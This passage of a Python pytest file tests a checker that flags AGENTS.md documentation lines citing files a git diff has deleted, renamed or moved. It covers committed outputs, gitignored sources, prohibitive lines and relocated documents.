    assert [one for one in found(project, "--diff", "main") if one[0] == "docs/AGENTS.md"] == [
        ("docs/AGENTS.md", 9, "IM001", "left-pad==1.0")
    ]


def test_what_a_command_shows_of_a_run_is_not_missed_once_it_is_no_longer_committed(project: Sandbox) -> None:
    project.write("src/run.py", 'OUT = "out/heat.json"\n')
    project.write("out/heat.json", "{}\n")
    project.write("AGENTS.md", "- Then `./kiln --all && jq . out/heat.json`.\n- The model is `out/heat.json`.\n")
    project.commit()
    project.git("rm", "-q", "out/heat.json")
    project.commit()
    told = project.run("check", "--diff", "HEAD~1", "--json", code=1).json["findings"]
    assert [(one["line"], one["citation"]["text"]) for one in told] == [(2, "out/heat.json")]


def test_a_document_that_is_only_spelt_otherwise_is_not_written_anew(project: Sandbox) -> None:
    project.write("guide/agents.md", "- Heat is in `src/kiln.py`.\n")
    project.write("src/kiln.py", "def heat():\n    return 1\n")
    project.commit()
    project.git("rm", "-q", "src/kiln.py")
    project.commit()
    project.git("mv", "guide/agents.md", "guide/AGENTS.md")
    project.commit()
    assert found(project, "--diff", "HEAD~1") == []
    project.git("branch", "-f", "main", "HEAD~1")
    project.write(
        "guide/AGENTS.md", "- Heat is in `src/kiln.py`.\n- So is cold, see `src/rack.py`.\n- And `src/kiln.py`.\n"
    )
    assert [line for _, line, *_ in found(project, "--diff", "main")] == [3]


@pytest.mark.parametrize("exhaustive", [(), ("--exhaustive",)])
@pytest.mark.parametrize(
    ("ignored", "path", "is_told"),
    [
        (False, "lib/kiln.js", True),
        (True, "lib/kiln.js", False),
        (False, "lib/heat.json", False),
        (False, "dist/kiln.js", False),
    ],
)
def test_source_code_that_was_in_git_in_spite_of_ignores_is_missed_unless_these_changed(
    project: Sandbox, ignored: bool, path: str, is_told: bool, exhaustive: tuple[str, ...]
) -> None:
    project.write(path, "function heat() {}\n")
    project.git("add", "-f", path)
    project.write("AGENTS.md", f"- Heat is in `{path}`.\n")
    if not ignored:
        project.write(".gitignore", "lib/\ndist/\n")
    project.commit()
    project.git("rm", "-q", path)
    project.write(".gitignore", "lib/\ndist/\n")
    project.git("commit", "-q", "-am", "it went") if not ignored else project.commit()
    told = [text for *_, text in found(project, "--diff", "HEAD~1", *exhaustive)]
    assert told == ([path] if is_told else [])


@pytest.mark.parametrize(
    ("text", "is_told"),
    [
        ("- Do not add `tools/lock.json`.\n", False),
        ("| step | reads | writes to |\n|---|---|---|\n| fire | heat | `tools/lock.json` |\n", False),
        ("- By default the lock is `tools/lock.json`.\n", True),
    ],
)
def test_what_a_line_forbids_or_its_column_makes_may_go(project: Sandbox, text: str, is_told: bool) -> None:
    project.write("tools/lock.json", "{}\n")
    project.write("docs/AGENTS.md", f"# Tools\n\n{text}")
    project.commit()
    project.git("branch", "-f", "main")
    project.git("rm", "-q", "-r", "tools")
    project.commit()
    assert ("tools/lock.json" in [one[3] for one in found(project, "--diff", "main")]) == is_told


@pytest.mark.parametrize(
    ("moved", "is_told"), [(["pages/demo/view.ts", "parts/AGENTS.md"], False), (["pages/demo/view.ts"], True)]
)
def test_what_went_along_with_its_document_into_another_folder_was_not_taken_away(
    sandbox: Sandbox, moved: list[str], is_told: bool
) -> None:
    for path in ("parts/AGENTS.md", "app/parts/AGENTS.md")[: 3 - len(moved)]:
        sandbox.write(path, "- The switcher is `pages/demo/view.ts`.\n")
    sandbox.write("pages/demo/view.ts", "export const view = 1\n" * 3)
    sandbox.commit()
    for path in moved:
        (sandbox.root / "app" / path).parent.mkdir(parents=True, exist_ok=True)
        sandbox.git("mv", path, f"app/{path}")
    sandbox.commit()
    found = sandbox.run("check", "--diff", "HEAD~1", "--json", code=None).json["findings"]
    assert bool([one for one in found if one["file"] == "app/parts/AGENTS.md"]) == is_told
